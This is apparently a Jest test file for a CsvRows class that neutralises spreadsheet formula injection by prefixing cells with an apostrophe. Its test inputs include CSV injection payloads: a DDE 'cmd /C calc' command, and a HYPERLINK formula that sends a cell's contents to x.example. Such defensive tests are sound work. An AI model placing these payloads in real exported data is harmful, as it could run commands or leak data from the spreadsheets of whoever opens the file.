import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { CsvRows } from './csv-rows.js';

/** A row as Postgres writes it in its own CSV. */
const asPostgres = (row: readonly string[]): string =>
  `${row
    .map((cell) => (/[",\r\n]/.test(cell) || cell === '' ? `"${cell.replaceAll('"', '""')}"` : cell))
    .join(',')}\n`;

/** What becomes of rows whose columns are all guarded, unless said otherwise. */
function written(
  rows: readonly string[][],
  guarded = rows[0]?.map(() => true) ?? [],
  pieces?: number[],
): Buffer {
  const csv = new CsvRows(guarded);
  const bytes = Buffer.from(rows.map(asPostgres).join(''));
  const ends = [...(pieces ?? []), bytes.length];
  const made: Buffer[] = [];
  let from = 0;
  for (const end of ends) {
    made.push(csv.push(bytes.subarray(from, Math.max(from, end))));
    from = Math.max(from, end);
  }
  expect(csv.count).toBe(rows.length);
  return Buffer.concat(made);
}

const read = (csv: Buffer): string[][] => parse(csv, { record_delimiter: '\r\n' });

/** One cell as a spreadsheet gets it. */
const cell = (text: string): string => read(written([[text, 'end']]))[0]?.[0] ?? '';

describe('the form', () => {
  it('ends rows with CR LF and leaves line breaks in cells as they are', () => {
    const rows = [
      ['a', 'line\nline', 'end'],
      ['', 'say "no", then go', 'CR\rLF\r\n'],
    ];
    expect(written(rows).toString()).toBe('a,"line\nline",end\r\n"","say ""no"", then go","CR\rLF\r\n"\r\n');
  });

  it('is the same wherever the bytes are cut', () => {
    const rows = [
      ['＝1', '-2', ' \u00a0=3', 'a"b,\n＠4'],
      ['ok', '"=5"', '\t6', '\u2003＋7'],
    ];
    const whole = written(rows);
    for (let at = 0; at <= Buffer.from(rows.map(asPostgres).join('')).length; at++)
      expect(written(rows, undefined, [at])).toEqual(whole);
  });

  it('has nothing where there are no rows', () => {
    expect(new CsvRows([true]).push(Buffer.alloc(0)).length).toBe(0);
  });
});

describe('formulas', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-1', "'-1"],
    ['@SUM(1+9)', "'@SUM(1+9)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['\nx', "'\nx"],
    ['  =1', "  '=1"],
    ['\u00a0\u3000\u200b\ufeff=1', "\u00a0\u3000\u200b\ufeff'=1"],
    ['"=1', '"\'=1'],
    ['＝1', "'＝1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠x', "'＠x"],
    ['﹦1', "'﹦1"],
    ['Thanks\n=1', "Thanks\n'=1"],
    ['Thanks\r\n  -1', "Thanks\r\n  '-1"],
    ['Thanks\r@x', "Thanks\r'@x"],
    ['a;=1', "a;'=1"],
    ['a\t+1', "a\t'+1"],
    ['a; "=1"', 'a; "\'=1"'],
    ['\t=1', "'\t'=1"],
    [';=1', ";'=1"],
  ])('%j becomes %j', (text, harmless) => expect(cell(text)).toBe(harmless));

  it.each([
    'Vitamin C + E serum',
    'Mon-Fri, 9-17',
    'a@b.example',
    "'=1",
    'x=y',
    '1 = 1, -2',
    'Ærø – ø',
    'line\nline',
    'a; b',
    '−1',
    '日本＝',
    '',
  ])('%j stays as it is', (text) => expect(cell(text)).toBe(text));

  it('are known in the last column and in the first of a row as well', () => {
    const rows = [
      ['=1', 'b', '=3'],
      ['=4', 'e', '=6'],
    ];
    expect(read(written(rows))).toEqual([
      ["'=1", 'b', "'=3"],
      ["'=4", 'e', "'=6"],
    ]);
  });

  it('are none in the columns that we wrote', () => {
    const row = ['=1', '-13.89', '=2', '-1'];
    expect(read(written([row], [true, false, true, false]))).toEqual([["'=1", '-13.89', "'=2", '-1']]);
  });

  const payloads = new URL('../../../../../../shared/data/strings/csv-payload.txt', import.meta.url);
  const known = existsSync(payloads) ? readFileSync(payloads, 'utf8').split('\n').filter(Boolean) : [];
  it.each([...known, '=HYPERLINK("http://x.example?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", 'DDE("cmd";"=1")'])(
    'of attacks are harmless wherever they begin: %j',
    (attack) => {
      for (const before of ['', ' ', '\n', 'x\n', '\t', 'x;', '\u00a0'])
        expect(isHarmless(cell(before + attack))).toBe(true);
    },
  );
});

/** Whether nothing in a cell begins as a formula does: read off the text, without the rules that wrote it. */
const isHarmless = (text: string): boolean =>
  !/^[\t\r\n]/.test(text) &&
  text.split(/[\r\n\t;]/).every((part) => !/^[\s"\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(part));

/** Texts in which formulas, quotes and breaks are frequent. */
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(...'=+-@＝＋－＠\t\r\n "\',;a1\u00a0\u3000\u200b\ufeffé😀', '\r\n', '=cmd'),
      fc.string({ unit: 'grapheme', maxLength: 3 }).filter((text) => !text.includes('\0')),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));

describe('any text', () => {
  it('is harmless, and without the apostrophes what it was', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(hostile, hostile, hostile), { minLength: 1, maxLength: 5 }),
        fc.array(fc.nat(400), { maxLength: 4 }).map((cuts) => cuts.sort((a, b) => a - b)),
        (rows, cuts) => {
          const made = read(written(rows, [true, false, true], cuts));
          expect(made.map(([, ours]) => ours)).toEqual(rows.map(([, ours]) => ours));
          for (const [at, [first, , last]] of made.entries())
            for (const [harmless, text] of [
              [first, rows[at]?.[0]],
              [last, rows[at]?.[2]],
            ] as const) {
              expect(isHarmless(harmless ?? '')).toBe(true);
              expect(withoutGuards(harmless ?? '', text ?? '')).toBe(true);
            }
        },
      ),
      { numRuns: 500 },
    );
  });
});

/** Whether a text is another one with apostrophes put into it. */
function withoutGuards(guarded: string, text: string): boolean {
  let at = 0;
  for (const sign of guarded) {
    if (text.startsWith(sign, at)) at += sign.length;
    else if (sign !== "'") return false;
  }
  return at === text.length;
}
